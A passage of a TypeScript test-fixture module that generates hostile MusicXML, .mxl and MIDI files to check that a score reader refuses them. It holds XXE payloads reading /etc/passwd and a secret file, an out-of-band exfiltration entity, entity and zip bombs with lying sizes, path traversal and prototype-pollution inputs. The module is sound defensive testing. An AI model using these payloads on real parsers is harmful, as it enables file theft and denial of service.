/**
 * The hostile-input set of issue 9: files made to break a score reader, or to make it leak.
 * `test/hostile.test.ts` builds the set in a temporary folder and runs each case through the
 * command line; `npx tsx scripts/hostile-inputs.ts [folder]` writes it into a folder. The files
 * are made here, not committed: one of them is larger than the 256 MiB Tutti reads, and all of
 * them are reproducible.
 *
 * Every case is built byte by byte (zips and MIDI files included), so a case can lie about its
 * own sizes, which no well-behaved writer would let it do.
 */
import { pathToFileURL } from "node:url";
import { constants, deflateRawSync } from "node:zlib";
import { concatBytes } from "../../src/model/bytes.js";

/** One hostile input. */
export interface HostileCase {
  /** The file name, with the extension the case wants the reader to see. */
  readonly name: string;
  /** What the case tries, in a few words. */
  readonly what: string;
  /**
   * "error": refused with one clear line matching `message`; "ok": a legitimately readable file
   * (running status, overlapping notes…) that must be read, and arranged, without harm.
   */
  readonly expect: "error" | "ok";
  /** For errors: the problem after `tutti: <file>: `. */
  readonly message?: RegExp;
  /** The bytes, made on demand (the largest case is 256 MiB). */
  readonly bytes: () => Uint8Array;
}

/** A string that must never appear in an output or a message: the content of `secret.txt`. */
export const SECRET = "TUTTI-SECRET-7f3a9c0e-do-not-leak";

const enc = new TextEncoder();
const utf8 = (s: string): Uint8Array => enc.encode(s);

// ---- MusicXML ----

const PROLOG = '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n';
const PUBLIC_DOCTYPE =
  '<!DOCTYPE score-partwise PUBLIC "-//Recordare//DTD MusicXML 4.0 Partwise//EN" "http://www.musicxml.org/dtds/partwise.dtd">\n';

const ATTRS = (divisions = "1", extra = ""): string =>
  `<attributes><divisions>${divisions}</divisions><key><fifths>0</fifths></key><time><beats>4</beats><beat-type>4</beat-type></time><clef><sign>G</sign><line>2</line></clef>${extra}</attributes>`;
const NOTE = (step = "C", octave = "4", duration = "4", extra = ""): string =>
  `<note><pitch><step>${step}</step>${extra}<octave>${octave}</octave></pitch><duration>${duration}</duration><voice>1</voice><type>whole</type></note>`;
const REST = (duration = "4"): string => `<note><rest/><duration>${duration}</duration><voice>1</voice><type>whole</type></note>`;

/** A partwise score: `measures[p]` is the inner XML of each measure of part p. */
function score(measures: readonly (readonly string[])[], opts: { doctype?: string; title?: string; prolog?: string } = {}): string {
  const list = measures.map((_, p) => `<score-part id="P${p + 1}"><part-name>Part ${p + 1}</part-name></score-part>`).join("");
  const parts = measures
    .map((ms, p) => `<part id="P${p + 1}">${ms.map((m, i) => `<measure number="${i + 1}">${m}</measure>`).join("\n")}</part>`)
    .join("\n");
  const title = opts.title !== undefined ? `<work><work-title>${opts.title}</work-title></work>` : "";
  return `${opts.prolog ?? PROLOG}${opts.doctype ?? PUBLIC_DOCTYPE}<score-partwise version="4.0">${title}<part-list>${list}</part-list>\n${parts}\n</score-partwise>\n`;
}

/** One part, one measure with one note, with `inner` replacing the measure's content. */
const oneMeasure = (inner: string, opts?: Parameters<typeof score>[1]): string => score([[inner]], opts);
const plain = (opts?: Parameters<typeof score>[1]): string => oneMeasure(ATTRS() + NOTE(), opts);

function withDoctype(subset: string, body = "Title"): string {
  return plain({ doctype: `<!DOCTYPE score-partwise [\n${subset}\n]>\n`, title: body });
}

// ---- zip (for .mxl), written by hand so that sizes and paths can lie ----

const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

function crc32(data: Uint8Array): number {
  let c = 0xffffffff;
  for (let i = 0; i < data.length; i++) c = CRC_TABLE[(c ^ data[i]!) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

interface ZipEntry {
  readonly name: string;
  /** The entry's content; deflated unless `stored`. */
  readonly data?: Uint8Array;
  /** Already-compressed data with its true inflated size, for bombs made without inflating them here. */
  readonly raw?: { readonly deflated: Uint8Array; readonly size: number; readonly crc: number };
  readonly stored?: boolean;
  /** Lies for the central directory. */
  readonly claimSize?: number;
  readonly method?: number;
}

function zip(entries: readonly ZipEntry[], opts: { claimCount?: number } = {}): Uint8Array {
  const chunks: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = utf8(e.name);
    const data = e.data ?? new Uint8Array(0);
    const body = e.raw ? e.raw.deflated : e.stored ? data : deflateRawSync(data);
    const size = e.raw ? e.raw.size : data.length;
    const crc = e.raw ? e.raw.crc : crc32(data);
    const method = e.method ?? (e.stored ? 0 : 8);
    const usize = e.claimSize ?? size;
    const local = new DataView(new ArrayBuffer(30));
    local.setUint32(0, 0x04034b50, true);
    local.setUint16(4, 20, true);
    local.setUint16(8, method, true);
    local.setUint16(12, 0x21, true); // 1980-01-01
    local.setUint32(14, crc, true);
    local.setUint32(18, body.length, true);
    local.setUint32(22, usize >>> 0, true);
    local.setUint16(26, name.length, true);
    chunks.push(new Uint8Array(local.buffer), name, body);
    const cd = new DataView(new ArrayBuffer(46));
    cd.setUint32(0, 0x02014b50, true);
    cd.setUint16(4, 20, true);
    cd.setUint16(6, 20, true);
    cd.setUint16(10, method, true);
    cd.setUint16(14, 0x21, true);
    cd.setUint32(16, crc, true);
    cd.setUint32(20, body.length, true);
    cd.setUint32(24, usize >>> 0, true);
    cd.setUint16(28, name.length, true);
    cd.setUint32(42, offset, true);
    central.push(new Uint8Array(cd.buffer), name);
    offset += 30 + name.length + body.length;
  }
  const cdSize = central.reduce((s, c) => s + c.length, 0);
  const end = new DataView(new ArrayBuffer(22));
  end.setUint32(0, 0x06054b50, true);
  const count = opts.claimCount ?? entries.length;
  end.setUint16(8, Math.min(count, 0xffff), true);
  end.setUint16(10, Math.min(count, 0xffff), true);
  end.setUint32(12, cdSize, true);
  end.setUint32(16, offset, true);
  return concatBytes([...chunks, ...central, new Uint8Array(end.buffer)]);
}


const container = (path: string): Uint8Array =>
  utf8(
    `<?xml version="1.0" encoding="UTF-8"?>\n<container><rootfiles><rootfile full-path="${path}" media-type="application/vnd.recordare.musicxml+xml"/></rootfiles></container>\n`,
  );

/** A well-formed .mxl around `xml` (or with `entries` instead). */
const mxl = (rootPath: string, entries: readonly ZipEntry[]): Uint8Array =>
  zip([{ name: "mimetype", data: utf8("application/vnd.recordare.musicxml"), stored: true }, { name: "META-INF/container.xml", data: container(rootPath) }, ...entries]);

/**
 * `size` bytes of one repeated byte, raw-deflated without ever holding them: one 1 MiB block
 * compressed with a sync flush (so it ends on a byte boundary), repeated, then a final empty block.
 */
function deflatedRun(size: number, byte = 0x20): { deflated: Uint8Array; size: number; crc: number } {
  const MiB = 1 << 20;
  if (size % MiB !== 0) throw new Error("deflatedRun: whole MiB only");
  const block = deflateRawSync(new Uint8Array(MiB).fill(byte), { finishFlush: constants.Z_SYNC_FLUSH, level: 9 });
  const n = size / MiB;
  const deflated = concatBytes([...Array.from({ length: n }, () => block), new Uint8Array([0x03, 0x00])]);
  // CRC of the run, by the same table, on the 1 MiB block n times.
  let c = 0xffffffff;
  const one = new Uint8Array(MiB).fill(byte);
  for (let k = 0; k < n; k++) for (let i = 0; i < one.length; i++) c = CRC_TABLE[(c ^ one[i]!) & 0xff]! ^ (c >>> 8);
  return { deflated, size, crc: (c ^ 0xffffffff) >>> 0 };
}

// ---- Standard MIDI files, byte by byte ----

function vlq(n: number): number[] {
  const out = [n & 0x7f];
  for (n = Math.floor(n / 128); n > 0; n = Math.floor(n / 128)) out.unshift((n & 0x7f) | 0x80);
  return out;
}

const u32 = (n: number): number[] => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff];
const u16 = (n: number): number[] => [(n >>> 8) & 0xff, n & 0xff];
const EOT = [0x00, 0xff, 0x2f, 0x00];

/** A chunk: tag, length (true unless `claim` lies) and body. */
const chunk = (tag: string, body: readonly number[] | Uint8Array, claim?: number): Uint8Array =>
  concatBytes([utf8(tag), new Uint8Array(u32(claim ?? body.length)), Uint8Array.from(body)]);

function smf(tracks: readonly (readonly number[] | Uint8Array)[], opts: { format?: number; division?: number; declared?: number; extra?: Uint8Array[] } = {}): Uint8Array {
  const header = chunk("MThd", [...u16(opts.format ?? 1), ...u16(opts.declared ?? tracks.length), ...u16(opts.division ?? 480)]);
  return concatBytes([header, ...tracks.map((t) => chunk("MTrk", t)), ...(opts.extra ?? [])]);
}

/** Track events: a quarter note on `key` every beat, `count` times, with a tempo and meter first. */
function scale(count = 8, ppq = 480, ch = 0): number[] {
  const ev: number[] = [0x00, 0xff, 0x51, 0x03, 0x07, 0xa1, 0x20, 0x00, 0xff, 0x58, 0x04, 0x04, 0x02, 0x18, 0x08];
  for (let i = 0; i < count; i++) ev.push(0x00, 0x90 | ch, 60 + (i % 12), 80, ...vlq(ppq), 0x80 | ch, 60 + (i % 12), 0);
  return [...ev, ...EOT];
}

const simpleMidi = (): Uint8Array => smf([scale()], { format: 0 });

/** Random bytes from a fixed seed (mulberry32), so every run makes the same garbage. */
function garbage(n: number, seed = 9): Uint8Array {
  let a = seed >>> 0;
  const out = new Uint8Array(n);
  for (let i = 0; i < n; i++) {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    out[i] = (t ^ (t >>> 14)) & 0xff;
  }
  return out;
}

// ---- the cases ----

const MiB = 1 << 20;
const ENTITIES = /DOCTYPE declares entities/;
/** A plain score, as the .mxl cases zip it. */
const XML = utf8(plain({ title: "Zipped" }));

/** What each group of cases is given: `add` appends a case, `secretUrl` is the secret file's URL. */
interface Group {
  readonly secretFile: string;
  readonly secretUrl: string;
  readonly add: (name: string, what: string, expect: "error" | "ok", message: RegExp | undefined, bytes: () => Uint8Array | string) => void;
}

/**
 * Every case. `secretFile` is the absolute path of a file holding `SECRET`, which the XXE cases
 * try to pull into the score.
 * @example hostileCases({ secretFile: "/tmp/x/secret.txt" }).length // 128
 */
export function hostileCases(opts: { secretFile: string }): HostileCase[] {
  const cases: HostileCase[] = [];
  const add: Group["add"] = (name, what, expect, message, bytes) => {
    cases.push({ name, what, expect, ...(message ? { message } : {}), bytes: () => {
      const b = bytes();
      return typeof b === "string" ? utf8(b) : b;
    } });
  };
  const group: Group = { secretFile: opts.secretFile, secretUrl: pathToFileURL(opts.secretFile).href, add };
  for (const make of [entityCases, shapeCases, valueCases, mxlCases, midiCases, wrongExtensionCases]) make(group);
  return cases;
}

/** XML: entities and DTDs. */
function entityCases({ add, secretUrl }: Group): void {
  add("xxe-passwd.musicxml", "external entity to file:///etc/passwd", "error", ENTITIES, () => withDoctype('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;"));
  add("xxe-secret.musicxml", "external entity to a local secret file", "error", ENTITIES, () => withDoctype(`<!ENTITY xxe SYSTEM "${secretUrl}">`, "&xxe;"));
  add("xxe-public.musicxml", "external entity with a PUBLIC id", "error", ENTITIES, () => withDoctype(`<!ENTITY xxe PUBLIC "-//X//Y//EN" "${secretUrl}">`, "&xxe;"));
  add("xxe-parameter.musicxml", "parameter entity pulling an external DTD", "error", ENTITIES, () => withDoctype(`<!ENTITY % ext SYSTEM "${secretUrl}">\n%ext;`));
  add("xxe-parameter-nested.musicxml", "parameter entities defining entities (out-of-band XXE)", "error", ENTITIES, () =>
    withDoctype(`<!ENTITY % file SYSTEM "${secretUrl}">\n<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:1/?x=%file;'>">\n%eval;\n%exfil;`));
  add("xxe-in-attribute.musicxml", "an internal entity used in an attribute", "error", ENTITIES, () =>
    oneMeasure(ATTRS() + NOTE(), { doctype: '<!DOCTYPE score-partwise [<!ENTITY e "SECRET-ATTR">]>\n' }).replace('<part id="P1">', '<part id="&e;">'));
  add("billion-laughs.musicxml", "entities nested ten deep (10^9 'lol's)", "error", ENTITIES, () => {
    const lines = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) lines.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? "" : i - 1};`.repeat(10)}">`);
    return withDoctype(lines.join("\n"), "&lol9;");
  });
  add("quadratic-blowup.musicxml", "one 50 kB entity used 20,000 times", "error", ENTITIES, () =>
    withDoctype(`<!ENTITY a "${"x".repeat(50_000)}">`, "&a;".repeat(20_000)));
  add("internal-entity.musicxml", "a harmless-looking internal entity", "error", ENTITIES, () => withDoctype('<!ENTITY composer "J. S. Bach">', "&composer;"));
  add("doctype-in-body.musicxml", "a DOCTYPE with entities inside the root element", "error", /DOCTYPE inside the document/, () =>
    plain({ title: "x" }).replace("<part-list>", '<!DOCTYPE x [<!ENTITY e "SECRET-BODY">]><part-list>').replace("<work-title>x", "<work-title>&e;"));
  add("external-dtd-secret.musicxml", "a DOCTYPE whose SYSTEM id is a local secret file (never loaded)", "ok", undefined, () =>
    plain({ doctype: `<!DOCTYPE score-partwise SYSTEM "${secretUrl}">\n`, title: "External DTD" }));
  add("xinclude.musicxml", "an XInclude of a local secret file (never followed)", "ok", undefined, () =>
    plain({ title: "XInclude" }).replace("<part-list>", `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${secretUrl}" parse="text"/><part-list>`));
  add("image-source.musicxml", "images and a stylesheet pointing at local files (never read)", "ok", undefined, () =>
    plain({ title: "Images", prolog: `${PROLOG}<?xml-stylesheet href="${secretUrl}"?>\n` })
      .replace("<part-list>", `<credit page="1"><credit-image source="${secretUrl}" type="image/png"/></credit><part-list>`)
      .replace("<note>", `<direction><direction-type><image source="/etc/passwd" type="image/png"/></direction-type></direction><note>`));
  add("undefined-entity.musicxml", "an entity nobody declared (&nbsp;), kept as text", "ok", undefined, () => plain({ title: "A&nbsp;B &#233;t&#xE9; &amp; &lt;ok&gt;" }));
  add("bad-char-ref.musicxml", "character references to NUL and past U+10FFFF", "ok", undefined, () => plain({ title: "a&#0;b&#x110000;c&#99999999999;d" }));
  add("proto-pollution.musicxml", "elements and attributes named __proto__ and constructor", "error", /names an element or attribute "__proto__"/, () =>
    plain({ title: "Proto" }).replace("<note>", '<__proto__ polluted="yes"><constructor prototype="x"/></__proto__><note __proto__="x" constructor="y">'));
}

/** XML: size and shape. */
function shapeCases({ add }: Group): void {
  add("deep-nesting.musicxml", "elements nested 100,000 deep", "error", /nests elements more than 64 deep/, () =>
    plain().replace("<note>", "<a>".repeat(100_000) + "</a>".repeat(100_000) + "<note>"));
  add("deep-nesting-root.musicxml", "a root nested 1,000,000 deep, never closed", "error", /nests elements more than 64 deep/, () => "<a>".repeat(1_000_000));
  add("many-elements.musicxml", "3,000,000 empty elements in 15 MB", "error", /more than 1,000,000 elements/, () =>
    plain().replace("<note>", "<x/>".repeat(3_000_000) + "<note>"));
  add("huge-file.musicxml", "a score padded with spaces to 256 MiB + 1 byte", "error", /larger than 256 MiB/, () => {
    const out = new Uint8Array(256 * MiB + 1).fill(0x20);
    out.set(utf8(plain()));
    return out;
  });
  add("huge-text.musicxml", "a 20 MB title", "error", /a text longer than 1 Mi characters/, () => plain({ title: "T".repeat(20 * 1000 * 1000) }));
  add("huge-attribute.musicxml", "a 20 MB attribute value", "error", /a tag \(with its attributes\) longer than 1 Mi characters/, () =>
    plain().replace('<part id="P1">', `<part id="P1" x="${"x".repeat(20 * 1000 * 1000)}">`));
  add("huge-tail.musicxml", "a score followed by 20 MB of white space", "error", /a text longer than 1 Mi characters/, () => plain() + " ".repeat(20 * 1000 * 1000));
  add("long-text-allowed.musicxml", "a 200 kB title", "ok", undefined, () => plain({ title: "T".repeat(200 * 1000) }));
  add("truncated.musicxml", "a score cut off halfway", "error", /not well-formed XML/, () => {
    const s = score([Array.from({ length: 8 }, (_, i) => (i === 0 ? ATTRS() : "") + NOTE())]);
    return s.slice(0, Math.floor(s.length / 2));
  });
  add("binary-garbage.musicxml", "64 kB of random bytes named .musicxml", "error", /not a MusicXML, \.mxl or MIDI file/, () => garbage(65536));
  add("empty.musicxml", "an empty file", "error", /the file is empty/, () => new Uint8Array(0));
  add("whitespace.musicxml", "whitespace only", "error", /not a MusicXML, \.mxl or MIDI file|no root element/, () => "   \n\t\n");
  add("html.xml", "well-formed XML that is not MusicXML", "error", /root element is <html>/, () => "<html><body>hi</body></html>");
  add("no-part-list.musicxml", "a score without <part-list>", "error", /no <part-list>/, () => plain().replace(/<part-list>.*<\/part-list>/s, ""));
  add("no-parts.musicxml", "a part list and no parts", "error", /no parts/, () => plain().replace(/<part id[\s\S]*<\/part>/, ""));
  add("empty-measures.musicxml", "parts whose measures are all empty", "error", /no notes or rests/, () => score([["", "", ""]]));
  add("rests-only.musicxml", "a score of rests, no notes", "ok", undefined, () => score([[ATTRS() + REST(), REST(), REST()], [ATTRS() + REST(), REST(), REST()]]));
  add("utf16le-bom.musicxml", "UTF-16 little-endian with a byte-order mark", "ok", undefined, () => {
    const s = plain({ title: "Élan" }).replace('encoding="UTF-8"', 'encoding="UTF-16"');
    return concatBytes([new Uint8Array([0xff, 0xfe]), new Uint8Array(Buffer.from(s, "utf16le"))]);
  });
  add("utf16be-bom.musicxml", "UTF-16 big-endian with a byte-order mark", "ok", undefined, () => {
    const s = plain({ title: "Élan" }).replace('encoding="UTF-8"', 'encoding="UTF-16"');
    return concatBytes([new Uint8Array([0xfe, 0xff]), new Uint8Array(Buffer.from(s, "utf16le").swap16())]);
  });
  add("utf16le-no-bom.musicxml", "UTF-16 little-endian without a byte-order mark", "ok", undefined, () =>
    new Uint8Array(Buffer.from(plain({ title: "Élan" }).replace('encoding="UTF-8"', 'encoding="UTF-16"'), "utf16le")));
  add("latin1.musicxml", "ISO-8859-1 declared and used", "ok", undefined, () =>
    new Uint8Array(Buffer.from(plain({ title: "Étude für Klavier" }).replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'), "latin1")));
  add("bad-utf8.musicxml", "invalid UTF-8 bytes in a title", "ok", undefined, () =>
    concatBytes([utf8(plain({ title: "A" }).split("<work-title>A")[0]! + "<work-title>"), new Uint8Array([0xff, 0xfe, 0xc3, 0x28, 0xe2, 0x82]), utf8(plain({ title: "A" }).split("<work-title>A")[1]!)]));
  add("unknown-encoding.musicxml", "an encoding nobody knows", "error", /encoding "X-KLINGON"/, () => plain().replace('encoding="UTF-8"', 'encoding="X-KLINGON"'));
}

/** Values out of range or nonsense. */
function valueCases({ add }: Group): void {
  const value = (name: string, what: string, message: RegExp | undefined, xml: string, expect: "error" | "ok" = "error"): void =>
    add(name, what, expect, message, () => xml);
  value("divisions-zero.musicxml", "<divisions>0</divisions>", /<divisions> is 0/, oneMeasure(ATTRS("0") + NOTE()));
  value("divisions-negative.musicxml", "<divisions>-4</divisions>", /<divisions> is -4/, oneMeasure(ATTRS("-4") + NOTE()));
  value("divisions-huge.musicxml", "<divisions>1e300</divisions>", /<divisions> is 1e300/, oneMeasure(ATTRS("1e300") + NOTE()));
  value("divisions-fraction.musicxml", "<divisions>2.5</divisions>", /<divisions> is 2\.5/, oneMeasure(ATTRS("2.5") + NOTE()));
  value("duration-negative.musicxml", "a note lasting -4", /duration -4/, oneMeasure(ATTRS() + NOTE("C", "4", "-4") + NOTE()));
  value("duration-huge.musicxml", "a note lasting 10^15 quarters", /lasts more than 256 whole notes/, oneMeasure(ATTRS() + NOTE("C", "4", "1000000000000000")));
  value("duration-nan.musicxml", "a note lasting 'abc'", /duration "abc"/, oneMeasure(ATTRS() + NOTE("C", "4", "abc")));
  value("forward-huge.musicxml", "a <forward> of 10^12 quarters", /lasts more than 256 whole notes/, oneMeasure(ATTRS() + NOTE() + "<forward><duration>1000000000000</duration></forward>"));
  value("measure-overflow.musicxml", "10,000 whole notes in one measure", /lasts more than 256 whole notes/, oneMeasure(ATTRS() + NOTE().repeat(10_000)));
  value("time-huge.musicxml", "a 1000000000/4 time signature over empty measures", /time signature/, score([[ATTRS().replace("<beats>4</beats>", "<beats>1000000000</beats>"), "", ""], [ATTRS() + NOTE(), NOTE(), NOTE()]]));
  value("time-zero.musicxml", "a 0/0 time signature", undefined, oneMeasure(ATTRS().replace("<beats>4</beats><beat-type>4</beat-type>", "<beats>0</beats><beat-type>0</beat-type>") + NOTE()), "ok");
  value("pitch-octave-12.musicxml", "a C in octave 12", /octave 12/, oneMeasure(ATTRS() + NOTE("C", "12")));
  value("pitch-octave-negative.musicxml", "a C in octave -3", /octave -3/, oneMeasure(ATTRS() + NOTE("C", "-3")));
  value("pitch-alter-50.musicxml", "a C raised 50 semitones", /alter 50/, oneMeasure(ATTRS() + NOTE("C", "4", "4", "<alter>50</alter>")));
  value("pitch-step-h.musicxml", "step H", /pitch step "H"/, oneMeasure(ATTRS() + NOTE("H")));
  value("pitch-transposed-out.musicxml", "a <transpose> of 10,000 semitones", /transpose/, oneMeasure(ATTRS("1", "<transpose><diatonic>0</diatonic><chromatic>10000</chromatic></transpose>") + NOTE()));
  value("pitch-sounds-above-midi.musicxml", "a written G9 sounding two octaves up", /outside the MIDI range/, oneMeasure(ATTRS("1", "<transpose><diatonic>0</diatonic><chromatic>0</chromatic><octave-change>2</octave-change></transpose>") + NOTE("G", "9")));
  value("staff-huge.musicxml", "a note on staff 100,000", /staff 100000/, oneMeasure(ATTRS() + NOTE().replace("</voice>", "</voice><staff>100000</staff>")));
  value("staves-huge.musicxml", "<staves>100000</staves>", /<staves> is 100000/, oneMeasure(ATTRS("1", "<staves>100000</staves>") + NOTE()));
  value("key-fifths-huge.musicxml", "a key of 10^9 sharps", /key signature of 1000000000 fifths/, oneMeasure(ATTRS().replace("<fifths>0</fifths>", "<fifths>1000000000</fifths>") + NOTE()));
  value("tuplet-zero.musicxml", "a 0:0 time modification", undefined, oneMeasure(ATTRS() + NOTE().replace("</type>", "</type><time-modification><actual-notes>0</actual-notes><normal-notes>0</normal-notes></time-modification>")), "ok");
  value("voice-chaos.musicxml", "a chord joining a rest and 500 voices", undefined, oneMeasure(ATTRS("1") + Array.from({ length: 500 }, (_, i) => NOTE("C", "4", "4").replace("<voice>1", `<voice>${i}`) + "<backup><duration>4</duration></backup>").join("") + "<note><chord/><rest/><duration>4</duration></note>"), "ok");
  add("thousands-of-parts.musicxml", "3,000 parts", "error", /3000 parts; Tutti reads at most 256/, () => score(Array.from({ length: 3000 }, () => [ATTRS() + NOTE()])));
  add("many-parts-allowed.musicxml", "200 parts, one note each", "ok", undefined, () => score(Array.from({ length: 200 }, () => [ATTRS() + NOTE()])));
  add("thousands-of-measures.musicxml", "30,000 measures", "error", /30000 measures; Tutti reads at most 10000/, () => score([Array.from({ length: 30_000 }, (_, i) => (i === 0 ? ATTRS() : "") + NOTE())]));
  add("many-measures-allowed.musicxml", "2,000 measures, one note each", "ok", undefined, () => score([Array.from({ length: 2000 }, (_, i) => (i === 0 ? ATTRS() : "") + NOTE())]));
  add("timewise.musicxml", "score-timewise with a part missing from one measure", "ok", undefined, () =>
    `${PROLOG}<score-timewise version="4.0"><part-list><score-part id="P1"><part-name>A</part-name></score-part><score-part id="P2"><part-name>B</part-name></score-part></part-list>` +
    `<measure number="1"><part id="P1">${ATTRS()}${NOTE()}</part><part id="P2">${ATTRS()}${NOTE("E")}</part></measure><measure number="2"><part id="P1">${NOTE("D")}</part></measure></score-timewise>`);
}

/** .mxl archives. */
function mxlCases({ add, secretFile, secretUrl }: Group): void {
  add("mxl-bomb.mxl", "score.xml inflating to 1 GiB, sizes honest", "error", /inflates to 1024 MiB, more than the 256 MiB/, () => mxl("score.xml", [{ name: "score.xml", raw: deflatedRun(1024 * MiB) }]));
  add("mxl-bomb-lying.mxl", "score.xml inflating to 1 GiB while claiming 1 kB", "error", /inflates to more than/, () =>
    mxl("score.xml", [{ name: "score.xml", raw: deflatedRun(1024 * MiB), claimSize: 1000 }]));
  add("mxl-bomb-container.mxl", "container.xml inflating to 256 MiB", "error", /container\.xml.*inflates to/, () =>
    zip([{ name: "META-INF/container.xml", raw: deflatedRun(256 * MiB) }, { name: "score.xml", data: XML }]));
  add("mxl-claims-4gib.mxl", "a tiny entry claiming 4 GiB", "error", /inflates to 4096 MiB/, () => mxl("score.xml", [{ name: "score.xml", data: XML, claimSize: 0xffffffff }]));
  add("mxl-dotdot.mxl", "rootfile ../../../../etc/passwd", "error", /leaves the archive/, () => mxl("../../../../etc/passwd", [{ name: "score.xml", data: XML }]));
  add("mxl-dotdot-inside.mxl", "rootfile META-INF/../../secret.txt", "error", /leaves the archive/, () => mxl("META-INF/../../secret.txt", [{ name: "score.xml", data: XML }]));
  add("mxl-absolute.mxl", "rootfile /etc/passwd", "error", /leaves the archive/, () => mxl("/etc/passwd", [{ name: "score.xml", data: XML }]));
  add("mxl-absolute-secret.mxl", `rootfile at the secret file's absolute path`, "error", /leaves the archive/, () => mxl(secretFile, [{ name: "score.xml", data: XML }]));
  add("mxl-windows-absolute.mxl", "rootfile C:\\Windows\\win.ini", "error", /leaves the archive/, () => mxl("C:\\Windows\\win.ini", [{ name: "score.xml", data: XML }]));
  add("mxl-file-url.mxl", "rootfile file:///etc/passwd", "error", /leaves the archive/, () => mxl("file:///etc/passwd", [{ name: "score.xml", data: XML }]));
  add("mxl-missing-rootfile.mxl", "container names a file the archive lacks", "error", /names "score\.musicxml", which is not in the archive/, () => mxl("score.musicxml", [{ name: "other.xml", data: XML }]));
  add("mxl-empty-rootfile-path.mxl", "a rootfile without full-path", "error", /holds no MusicXML score/, () =>
    zip([{ name: "META-INF/container.xml", data: utf8('<container><rootfiles><rootfile media-type="x"/></rootfiles></container>') }, { name: "sub/score.xml", data: XML }]));
  add("mxl-no-score.mxl", "a zip with no MusicXML in it", "error", /holds no MusicXML score/, () => zip([{ name: "readme.txt", data: utf8("hello") }]));
  add("mxl-no-container.mxl", "no container.xml, one score at the top (read)", "ok", undefined, () => zip([{ name: "score.xml", data: XML }]));
  add("mxl-dotslash.mxl", "rootfile ./score.xml (inside, read)", "ok", undefined, () => mxl("./score.xml", [{ name: "score.xml", data: XML }]));
  add("mxl-utf16.mxl", "the score inside in UTF-16 with a byte-order mark (read)", "ok", undefined, () =>
    mxl("score.xml", [{ name: "score.xml", data: concatBytes([new Uint8Array([0xff, 0xfe]), new Uint8Array(Buffer.from(plain({ title: "Zipped" }).replace('encoding="UTF-8"', 'encoding="UTF-16"'), "utf16le"))]) }]));
  add("mxl-xxe-container.mxl", "container.xml with an external entity", "error", ENTITIES, () =>
    zip([{ name: "META-INF/container.xml", data: utf8(`<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "${secretUrl}">]><container><rootfiles><rootfile full-path="&x;"/></rootfiles></container>`) }, { name: "score.xml", data: XML }]));
  add("mxl-xxe-score.mxl", "a score inside the archive with an external entity", "error", ENTITIES, () => mxl("score.xml", [{ name: "score.xml", data: utf8(withDoctype(`<!ENTITY xxe SYSTEM "${secretUrl}">`, "&xxe;")) }]));
  add("mxl-not-a-zip.mxl", "text named .mxl", "error", /not a MusicXML, \.mxl or MIDI file|not a readable \.mxl/, () => "this is not a zip file at all, just text");
  add("mxl-pk-garbage.mxl", "'PK' then random bytes", "error", /not a readable \.mxl/, () => concatBytes([utf8("PK\x03\x04"), garbage(4096, 3)]));
  add("mxl-truncated.mxl", "a real .mxl cut in half", "error", /not a readable \.mxl/, () => {
    const z = mxl("score.xml", [{ name: "score.xml", data: XML }]);
    return z.subarray(0, Math.floor(z.length / 2));
  });
  add("mxl-many-entries.mxl", "20,000 entries", "error", /20000 files; Tutti reads at most 10000/, () =>
    zip([{ name: "score.xml", data: XML }, ...Array.from({ length: 19_999 }, (_, i) => ({ name: `f${i}`, stored: true, data: new Uint8Array(0) }))]));
  add("mxl-claims-many-entries.mxl", "a directory claiming 65,535 entries it lacks", "error", /65535 files; Tutti reads at most 10000/, () => zip([{ name: "score.xml", data: XML }], { claimCount: 0xffff }));
  add("mxl-unknown-method.mxl", "an entry compressed with method 12 (bzip2)", "error", /compression method 12/, () => mxl("score.xml", [{ name: "score.xml", data: XML, method: 12, stored: true }]));
  add("mxl-nested.mxl", "the rootfile is itself a zip", "error", /inner\.mxl is not a MusicXML file/, () => mxl("inner.mxl", [{ name: "inner.mxl", data: mxl("score.xml", [{ name: "score.xml", data: XML }]), stored: true }]));
  add("mxl-rootfile-midi.mxl", "the rootfile is a MIDI file", "error", /score\.mid is not a MusicXML file/, () => mxl("score.mid", [{ name: "score.mid", data: simpleMidi(), stored: true }]));
}

/** MIDI. */
function midiCases({ add }: Group): void {
  const ok = okCase(add);
  ok("midi-running-status.mid", "note-ons and note-offs in running status", () => {
    const ev = [0x00, 0x90, 60, 80, 0x83, 0x60, 60, 0, 0x00, 62, 80, 0x83, 0x60, 62, 0, 0x00, 64, 80, 0x83, 0x60, 64, 0];
    return smf([[...ev, ...EOT]], { format: 0 });
  });
  add("midi-running-status-first.mid", "running status before any status byte", "error", /running status/, () => smf([[0x00, 60, 80, ...EOT]], { format: 0 }));
  ok("midi-zero-length.mid", "notes that end where they start", () => smf([[0x00, 0x90, 60, 80, 0x00, 0x80, 60, 0, 0x00, 0x90, 64, 80, 0x00, 0x80, 64, 0, ...EOT]], { format: 0 }));
  ok("midi-overlapping.mid", "the same key struck again while held, and unclosed notes", () =>
    smf([[0x00, 0x90, 60, 80, 0x81, 0x70, 0x90, 60, 90, 0x81, 0x70, 0x80, 60, 0, 0x81, 0x70, 0x80, 60, 0, 0x00, 0x90, 67, 80, 0x00, 0x90, 72, 80, ...EOT]], { format: 0 }));
  ok("midi-note-off-only.mid", "note-offs with no note-on, then one note", () => smf([[0x00, 0x80, 60, 0, 0x00, 0x80, 61, 0, 0x00, 0x90, 62, 80, 0x83, 0x60, 0x80, 62, 0, ...EOT]], { format: 0 }));
